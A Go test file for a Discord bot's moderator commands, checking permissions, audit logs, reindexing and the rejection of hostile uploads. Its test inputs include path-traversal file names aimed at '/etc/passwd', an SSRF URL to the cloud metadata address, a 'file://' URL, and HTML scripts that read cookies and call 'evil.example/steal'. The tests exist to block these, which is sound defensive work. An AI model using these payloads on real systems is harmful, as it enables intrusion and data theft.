package bot

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/storybot/storybot/bot/discordtest"
	"github.com/storybot/storybot/corpus/synth"
	"github.com/storybot/storybot/index"
	"github.com/storybot/storybot/index/answer"
)

const harbourStory = `Headline: Harbour Dredging to Begin in Spring
Source: Test Wire
Date: 2025-02-03
---

The port authority said dredging of the old harbour would begin in April, after two years of delays.

"The channel has silted up faster than anyone predicted," said harbour master Owen Pryce on Monday.
`

const lighthouseStory = `Headline: Lighthouse Keeper Retires After 40 Years
Source: Coast Gazette
Date: 2025-03-04
---

"The sea was my only clock," said keeper Agnes Morrow on Tuesday, as she handed over the keys of the Gull Point light.

The light will be automated next year, the coastguard said.
`

var baseCorpus = map[string]string{"harbour.txt": harbourStory}

func TestModeratorCommandsRegistered(t *testing.T) {
	t.Parallel()
	env := startModeration(t, baseCorpus, Moderation{}, Options{})
	reg := env.fake.WaitFor(discordtest.Route("PUT", "/guilds/"+testGuild+"/commands"))
	var cmds []struct {
		Name     string          `json:"name"`
		Perms    json.RawMessage `json:"default_member_permissions"`
		Contexts []int           `json:"contexts"`
		Options  []struct {
			Name         string `json:"name"`
			Type         int    `json:"type"`
			Autocomplete bool   `json:"autocomplete"`
		} `json:"options"`
	}
	if err := json.Unmarshal(reg.Body, &cmds); err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	for _, c := range cmds {
		if !moderatorCommand[c.Name] {
			if len(c.Perms) > 0 && string(c.Perms) != "null" {
				t.Errorf("/%s is restricted: %s", c.Name, c.Perms)
			}
			continue
		}
		seen[c.Name] = true
		// Manage Server, as a string, as Discord wants permission bits.
		if string(c.Perms) != `"32"` {
			t.Errorf("/%s default_member_permissions = %s", c.Name, c.Perms)
		}
		if fmt.Sprint(c.Contexts) != "[0]" {
			t.Errorf("/%s contexts = %v, want guilds only", c.Name, c.Contexts)
		}
		opts := map[string]int{}
		for _, o := range c.Options {
			opts[o.Name] = o.Type
			if c.Name == CmdRemoveStory && o.Name == "story" && !o.Autocomplete {
				t.Errorf("/remove-story story has no autocomplete")
			}
		}
		if c.Name == CmdAddStory && (opts["file"] != 11 || opts["url"] != 3) {
			t.Errorf("/add-story options %v", opts)
		}
	}
	if len(seen) != len(moderatorCommand) {
		t.Fatalf("moderator commands registered: %v", seen)
	}
}

func TestNonModeratorIsRefusedAndNothingChanges(t *testing.T) {
	t.Parallel()
	env := startModeration(t, baseCorpus, Moderation{}, Options{})
	before := listing(t, env.root)
	stories := fmt.Sprint(env.ix.Stories(guildScope))

	otherRole := reader
	otherRole.id, otherRole.roles = "800000000000000009", []string{"700000000000000099"}
	for _, c := range []struct {
		who  member
		name string
		opts map[string]string
		file bool
	}{
		{reader, CmdReindex, nil, false},
		{reader, CmdAddStory, nil, true},
		{otherRole, CmdAddStory, map[string]string{"url": "https://example.com/story.html"}, false},
		{reader, CmdRemoveStory, map[string]string{"story": "harbour.txt"}, false},
	} {
		var files map[string]map[string]any
		if c.file {
			files = map[string]map[string]any{"file": attachment(env.cdn, "lighthouse.txt", "text/plain", []byte(lighthouseStory), -1)}
		}
		id, p := modCommand(c.who, c.name, c.opts, files)
		env.fake.Dispatch("INTERACTION_CREATE", p)
		body := waitReply(t, env.fake, id, "Only moderators")
		if !strings.Contains(body, `"flags":64`) {
			t.Errorf("/%s refusal is not ephemeral: %s", c.name, body)
		}
		line := findAudit(t, env.audit, c.who.id, c.name, "refused")
		if line["user"] != c.who.name || line["time"] == nil || line["asked_at"] == nil {
			t.Errorf("audit line lacks who or when: %v", line)
		}
	}
	if got := listing(t, env.root); got != before {
		t.Errorf("the corpus changed:\n%s", got)
	}
	if got := fmt.Sprint(env.ix.Stories(guildScope)); got != stories {
		t.Errorf("the index changed: %s", got)
	}
	if n := env.cdn.Fetched("lighthouse.txt"); n != 0 {
		t.Errorf("a refused upload was downloaded %d times", n)
	}
}

func TestModeratorCheck(t *testing.T) {
	t.Parallel()
	roles := []string{modRole}
	for _, c := range []struct {
		m    *Member
		want bool
	}{
		{nil, false}, // a direct message
		{&Member{}, false},
		{&Member{Permissions: 3072, Roles: []string{"1"}}, false},
		{&Member{Roles: []string{"1", modRole}}, true},
		{&Member{Permissions: 0x20}, true},
		{&Member{Permissions: 0x8}, true},
	} {
		if got := isModerator(c.m, roles); got != c.want {
			t.Errorf("isModerator(%+v) = %v", c.m, got)
		}
	}
}

// ask sends a /who-said through the fake and returns the reply's body.
func ask(t *testing.T, env modEnv, quote string) string {
	t.Helper()
	id, p := slash("u-asker", CmdWhoSaid, "quote", quote)
	env.fake.Dispatch("INTERACTION_CREATE", p)
	req, _ := answerOf(t, env.fake, id)
	return string(req.Body)
}

func TestAddThenRemoveStoryRoundTrips(t *testing.T) {
	t.Parallel()
	env := startModeration(t, baseCorpus, Moderation{}, Options{})
	if body := ask(t, env, "the sea was my only clock"); strings.Contains(body, "Morrow") {
		t.Fatalf("answered before the story was added: %s", body)
	}

	// A moderator by role adds it …
	id, p := modCommand(roleMod, CmdAddStory, nil, map[string]map[string]any{
		"file": attachment(env.cdn, "lighthouse.txt", "text/plain; charset=utf-8", []byte(lighthouseStory), -1)})
	env.fake.Dispatch("INTERACTION_CREATE", p)
	body := waitReply(t, env.fake, id, "Added")
	if !strings.Contains(body, "lighthouse.txt") || !strings.Contains(body, "Lighthouse Keeper Retires") {
		t.Errorf("add reply %s", body)
	}
	saved, err := os.ReadFile(filepath.Join(env.corpus, "lighthouse.txt"))
	if err != nil || string(saved) != lighthouseStory {
		t.Fatalf("saved file: %q, %v", saved, err)
	}
	if body := ask(t, env, "the sea was my only clock"); !strings.Contains(body, "Morrow") {
		t.Fatalf("the added story is not searchable: %s", body)
	}
	line := findAudit(t, env.audit, roleMod.id, CmdAddStory, "ok")
	if line["story"] != "lighthouse.txt" || line["option_file"] != "lighthouse.txt" {
		t.Errorf("audit line %v", line)
	}

	// … autocomplete offers it for removal …
	acID, ac := interactionAs(4, permMod, map[string]any{"id": "9", "name": CmdRemoveStory, "type": 1, "options": []any{
		map[string]any{"name": "story", "type": 3, "value": "lightho", "focused": true}}})
	env.fake.Dispatch("INTERACTION_CREATE", ac)
	if rp := decodeReply(t, env.fake.WaitFor(callback(acID))); len(rp.Data.Choices) != 1 || rp.Data.Choices[0]["value"] != "lighthouse.txt" {
		t.Errorf("autocomplete %+v", rp.Data.Choices)
	}

	// … and one by permission removes it.
	id, p = modCommand(permMod, CmdRemoveStory, map[string]string{"story": "lighthouse.txt"}, nil)
	env.fake.Dispatch("INTERACTION_CREATE", p)
	waitReply(t, env.fake, id, "from this server")
	if _, err := os.Stat(filepath.Join(env.corpus, "lighthouse.txt")); !os.IsNotExist(err) {
		t.Errorf("the file is still there: %v", err)
	}
	if _, ok := env.ix.Story(guildScope, "lighthouse.txt"); ok {
		t.Errorf("the story is still indexed")
	}
	if body := ask(t, env, "the sea was my only clock"); strings.Contains(body, "Morrow") {
		t.Errorf("answered after the story was removed: %s", body)
	}
	findAudit(t, env.audit, permMod.id, CmdRemoveStory, "ok")
	if _, ok := env.ix.Story(guildScope, "harbour.txt"); !ok {
		t.Errorf("the other story went missing")
	}
}

func TestHostileAttachmentsAreRejected(t *testing.T) {
	t.Parallel()
	env := startModeration(t, baseCorpus, Moderation{}, Options{})
	before := listing(t, env.root)
	png := append([]byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"), make([]byte, 64)...)
	cases := []struct {
		name string
		att  map[string]any
		want string
	}{
		{"binary", attachment(env.cdn, "photo.txt", "image/png", png, -1), "binary, not text"},
		{"1 GB", attachment(env.cdn, "huge.txt", "text/plain", []byte(harbourStory), 1<<30), "larger than 5 MiB"},
		{"invalid UTF-8", attachment(env.cdn, "latin1.txt", "text/plain", []byte("Headline: Caf\xe9\n---\n\nA paragraph in Latin-1: caf\xe9.\n"), -1), "not valid UTF-8"},
		{"../ name", attachment(env.cdn, "../harbour.txt", "text/plain", []byte(lighthouseStory), -1), "file name is not allowed: it contains a path separator"},
		{"dot-dot name", attachment(env.cdn, "x..harbour.txt", "text/plain", []byte(lighthouseStory), -1), `contains \"..\"`},
		{"slash name", attachment(env.cdn, "a/../../etc/passwd.txt", "text/plain", []byte(lighthouseStory), -1), "path separator"},
		{"not a story type", attachment(env.cdn, "story.exe", "application/octet-stream", []byte("MZ"), -1), ".txt, .md or .html"},
		{"empty", attachment(env.cdn, "empty.md", "text/markdown", []byte("  \n"), -1), "empty"},
		{"lies about its size", map[string]any{"filename": "endless.txt", "content_type": "text/plain", "size": 1000,
			"url": env.cdn.ServeEndless("endless.txt", "text/plain")}, "larger than 5 MiB"},
		{"not on the CDN", map[string]any{"filename": "elsewhere.txt", "content_type": "text/plain", "size": 100,
			"url": "http://169.254.169.254/latest/meta-data.txt"}, "not on Discord's CDN"},
	}
	for _, c := range cases {
		id, p := modCommand(adminUser, CmdAddStory, nil, map[string]map[string]any{"file": c.att})
		env.fake.Dispatch("INTERACTION_CREATE", p)
		body := waitReply(t, env.fake, id, "Not added")
		if !strings.Contains(body, c.want) || !strings.Contains(body, "Nothing was changed") {
			t.Errorf("%s: reply %s, want %q", c.name, body, c.want)
		}
	}
	for _, n := range []string{"huge.txt", "harbour.txt", "x..harbour.txt", "passwd.txt", "story.exe"} {
		if env.cdn.Fetched(n) != 0 {
			t.Errorf("%s was downloaded; its name or size should have been enough", n)
		}
	}
	if got := listing(t, env.corpus); got != before {
		t.Errorf("the corpus changed:\n%s", got)
	}
	if _, ok := env.ix.Story(guildScope, "harbour.txt"); !ok || len(env.ix.Stories(guildScope)) != 1 {
		t.Errorf("the index changed: %v", env.ix.Stories(guildScope))
	}
	if n := len(auditLines(t, env.audit)); n != len(cases) {
		t.Errorf("%d audit lines for %d attempts", n, len(cases))
	}
	findAudit(t, env.audit, adminUser.id, CmdAddStory, "rejected")
}

func TestAddStoryHTMLDropsScripts(t *testing.T) {
	t.Parallel()
	env := startModeration(t, baseCorpus, Moderation{}, Options{})
	page := `<!doctype html><html><head><title>Ferry Timetable Changes</title>
<script>alert("pwned"); document.cookie</script><style>body{color:red}</style></head>
<body><article><h1>Ferry Timetable Changes</h1>
<p>The island ferry will run every two hours from June, the operator said on Friday in a statement to passengers.</p>
<script>fetch("https://evil.example/steal")</script>
<p>"We listened to the islanders," said operations director Mara Quill, adding that the last crossing would leave at ten.</p>
</article></body></html>`
	id, p := modCommand(permMod, CmdAddStory, nil, map[string]map[string]any{
		"file": attachment(env.cdn, "ferry.html", "text/html", []byte(page), -1)})
	env.fake.Dispatch("INTERACTION_CREATE", p)
	waitReply(t, env.fake, id, "Added")
	saved, err := os.ReadFile(filepath.Join(env.corpus, "ferry.txt"))
	if err != nil {
		t.Fatal(err)
	}
	if s := string(saved); strings.Contains(s, "alert") || strings.Contains(s, "evil.example") || strings.Contains(s, "color:red") || !strings.Contains(s, "Mara Quill") {
		t.Errorf("saved story:\n%s", s)
	}
}

func TestAddStoryFromURL(t *testing.T) {
	t.Parallel()
	srv := newPageServer(t, lighthouseStory)
	// Through the fake: the page is on 127.0.0.1, which is refused unless
	// private addresses are allowed.
	env := startModeration(t, baseCorpus, Moderation{}, Options{})
	id, p := modCommand(permMod, CmdAddStory, map[string]string{"url": srv + "/news/lighthouse"}, nil)
	env.fake.Dispatch("INTERACTION_CREATE", p)
	body := waitReply(t, env.fake, id, "Not added")
	if !strings.Contains(body, "private network") || strings.Contains(body, "127.0.0.1") {
		t.Errorf("reply %s: it must refuse without naming the address", body)
	}
	for _, u := range []string{"file:///etc/passwd", "ftp://example.com/a.txt"} {
		id, p := modCommand(permMod, CmdAddStory, map[string]string{"url": u}, nil)
		env.fake.Dispatch("INTERACTION_CREATE", p)
		waitReply(t, env.fake, id, "only http")
	}

	// Allowed, the same page is added and kept with its URL.
	dir := t.TempDir()
	lib := openLibrary(t, dir)
	b := New(answer.New(lib.Index()), Options{Log: quietLog(), RatePerUser: 1000, RatePerChannel: 1000,
		Moderation: Moderation{Library: lib, AllowPrivateURLs: true, Audit: quietLog()}})
	resp := b.Handle(context.Background(), modRequest(permMod, CmdAddStory, "url", srv+"/news/lighthouse"))
	if !strings.Contains(resp.Content, "Added `lighthouse.txt`") || !resp.Ephemeral {
		t.Fatalf("%+v", resp)
	}
	saved, _ := os.ReadFile(filepath.Join(dir, "_servers", testGuild, "lighthouse.txt"))
	if !strings.Contains(string(saved), "url: "+srv+"/news/lighthouse") {
		t.Errorf("saved:\n%s", saved)
	}
	// Both a file and a url, or neither, is a mistake.
	for _, r := range []Request{modRequest(permMod, CmdAddStory), modRequest(permMod, CmdAddStory, "url", srv, "file", "x")} {
		if resp := b.Handle(context.Background(), r); !strings.Contains(resp.Content, "one of the two") {
			t.Errorf("%+v", resp)
		}
	}
}

func TestReindexShowsProgressAndSummary(t *testing.T) {
	t.Parallel()
	c, err := synth.Generate(300, 7)
	if err != nil {
		t.Fatal(err)
	}
	files := map[string]string{"broken.txt": "\x00\x01binary"}
	for _, f := range c.Files {
		files[f.Name] = f.Text
	}
	total := len(c.Files)
	var env modEnv
	// Halfway, the build waits until the progress edit has been sent, so
	// the test sees one without depending on how fast anything is.
	hook := func(done, n int) {
		if done == n/2 {
			waitQuietly(env.fake, func(r discordtest.Request) bool {
				return r.Method == "PATCH" && strings.Contains(string(r.Body), fmt.Sprintf("/%d stories…", total))
			})
		}
	}
	rec := &countingRecorder{}
	env = startModeration(t, files, Moderation{ProgressEvery: time.Nanosecond, progressHook: hook}, Options{Metrics: rec})
	// Start from an index without them, as if they were just copied in.
	if _, err := env.ix.Rebuild(context.Background(), testGuild, index.Entries(c.Stories[:1]), index.Meta{}, nil); err != nil {
		t.Fatal(err)
	}

	id, p := modCommand(roleMod, CmdReindex, nil, nil)
	env.fake.Dispatch("INTERACTION_CREATE", p)
	deferral := decodeReply(t, env.fake.WaitFor(func(r discordtest.Request) bool { return callback(id)(r) && r.Status == 204 }))
	if deferral.Type != 5 || deferral.Data.Flags != 64 {
		t.Errorf("deferral %+v", deferral)
	}
	summary := waitReply(t, env.fake, id, "Reindexed")
	for _, want := range []string{
		fmt.Sprintf("Reindexed %d stories (%d paragraphs) in ", total, c.Paragraphs()),
		"Skipped 1 file:", "broken.txt: file is binary, not text",
	} {
		if !strings.Contains(summary, want) {
			t.Errorf("summary lacks %q: %s", want, summary)
		}
	}
	edits := 0
	for _, r := range env.fake.Requests() {
		if r.Method == "PATCH" && strings.Contains(r.Path, "tok"+id) {
			assertNoPings(t, r.Body)
			edits++
		}
	}
	if edits < 2 {
		t.Errorf("%d edits; want progress and the summary", edits)
	}
	if len(env.ix.Stories(guildScope)) != total {
		t.Errorf("%d stories indexed, want %d", len(env.ix.Stories(guildScope)), total)
	}
	line := findAudit(t, env.audit, roleMod.id, CmdReindex, "ok")
	if line["stories"] != float64(total) || line["skipped"] != float64(1) {
		t.Errorf("audit line %v", line)
	}
	if rec.reindexes != 1 || rec.failures != 0 {
		t.Errorf("metrics: %d reindexes, %d failures", rec.reindexes, rec.failures)
	}
}

func TestSecondReindexIsRefusedWhileOneRuns(t *testing.T) {
	t.Parallel()
	release := make(chan struct{})
	hook := func(done, n int) {
		if done == 1 {
			<-release
		}
	}
	files := map[string]string{"harbour.txt": harbourStory, "lighthouse.txt": lighthouseStory}
	env := startModeration(t, files, Moderation{progressHook: hook}, Options{})
	before := listing(t, env.root)

	first, p := modCommand(permMod, CmdReindex, nil, nil)
	env.fake.Dispatch("INTERACTION_CREATE", p)
	env.fake.WaitFor(func(r discordtest.Request) bool { return callback(first)(r) && r.Status == 204 })

	second, p := modCommand(roleMod, CmdReindex, nil, nil)
	env.fake.Dispatch("INTERACTION_CREATE", p)
	body := waitReply(t, env.fake, second, "still running")
	if !strings.Contains(body, "permmod") {
		t.Errorf("the note does not say who started it: %s", body)
	}
	findAudit(t, env.audit, roleMod.id, CmdReindex, "busy")

	// A story cannot be added halfway through either: the reindex has
	// already read the corpus and would not include it.
	add, p := modCommand(roleMod, CmdAddStory, nil, map[string]map[string]any{
		"file": attachment(env.cdn, "new.txt", "text/plain", []byte(lighthouseStory), -1)})
	env.fake.Dispatch("INTERACTION_CREATE", p)
	waitReply(t, env.fake, add, "still running")
	if got := listing(t, env.corpus); got != before {
		t.Errorf("the corpus changed during the reindex:\n%s", got)
	}

	close(release)
	waitReply(t, env.fake, first, "Reindexed 2 stories")
	// Afterwards a reindex runs again.
	third, p := modCommand(roleMod, CmdReindex, nil, nil)
	env.fake.Dispatch("INTERACTION_CREATE", p)
	waitReply(t, env.fake, third, "Reindexed 2 stories")
}

func TestFailedReindexKeepsTheOldIndex(t *testing.T) {
	t.Parallel()
	rec := &countingRecorder{}
	env := startModeration(t, baseCorpus, Moderation{}, Options{Metrics: rec})
	// The corpus loses every readable story.
	if err := os.WriteFile(filepath.Join(env.corpus, "harbour.txt"), []byte("\x00binary"), 0o644); err != nil {
		t.Fatal(err)
	}
	id, p := modCommand(adminUser, CmdReindex, nil, nil)
	env.fake.Dispatch("INTERACTION_CREATE", p)
	waitReply(t, env.fake, id, "The old index is still answering questions")
	findAudit(t, env.audit, adminUser.id, CmdReindex, "failed")
	if body := ask(t, env, "The channel has silted up faster than anyone predicted"); !strings.Contains(body, "Pryce") {
		t.Errorf("the old index stopped answering: %s", body)
	}
	if rec.failures != 1 {
		t.Errorf("failures recorded: %d", rec.failures)
	}
}

func TestMeasureRecordsAnswers(t *testing.T) {
	t.Parallel()
	rec := &countingRecorder{}
	b := newTestBot(t, Options{Metrics: rec})
	b.Handle(context.Background(), cmd(CmdWhoSaid, "quote", "dialogue and peaceful means"))
	b.Handle(context.Background(), cmd(CmdAsk, "question", "What colour is the zebra's umbrella on Neptune?"))
	b.Handle(context.Background(), Request{Type: Autocomplete, Command: CmdAsk, Focused: "story", Options: map[string]string{"story": "t"}})
	b.Handle(context.Background(), modRequest(reader, CmdReindex))
	rec.mu.Lock()
	defer rec.mu.Unlock()
	if fmt.Sprint(rec.answered) != "map[ask:1 who-said:1]" || rec.notFound != 1 {
		t.Errorf("answered %v, not found %d", rec.answered, rec.notFound)
	}
}

func TestModerationWithoutCorpusSaysSo(t *testing.T) {
	t.Parallel()
	b := newTestBot(t, Options{})
	for _, name := range []string{CmdReindex, CmdAddStory, CmdRemoveStory} {
		resp := b.Handle(context.Background(), modRequest(permMod, name, "story", "x.txt", "url", "https://example.com"))
		if !strings.Contains(resp.Content, "STORYBOT_CORPUS") || !resp.Ephemeral {
			t.Errorf("/%s: %+v", name, resp)
		}
	}
}

func TestHTTPModeRefusesNonModerators(t *testing.T) {
	t.Parallel()
	h := newHTTPRig(t, Options{Moderation: Moderation{Roles: []string{modRole}, Audit: quietLog()}})
	for _, c := range []struct {
		who  member
		want string
	}{{reader, "Only moderators"}, {roleMod, "No story store is configured"}} {
		_, p := modCommand(c.who, CmdReindex, nil, nil)
		body, _ := json.Marshal(p)
		code, resp := h.post(t, body, time.Now(), h.priv)
		if code != 200 || !strings.Contains(string(resp), c.want) || !strings.Contains(string(resp), `"flags":64`) {
			t.Errorf("%s: %d %s", c.who.name, code, resp)
		}
	}
}
